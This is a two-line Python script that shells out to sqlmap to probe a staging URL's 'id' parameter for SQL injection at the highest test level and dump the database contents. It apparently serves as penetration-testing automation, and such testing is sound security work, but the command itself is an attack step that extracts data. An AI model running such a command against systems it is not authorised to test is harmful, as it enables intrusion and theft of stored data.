import subprocess

subprocess.run("sqlmap -u https://staging.example.com/?id=1 --batch --dump --level=5", shell=True, check=True)
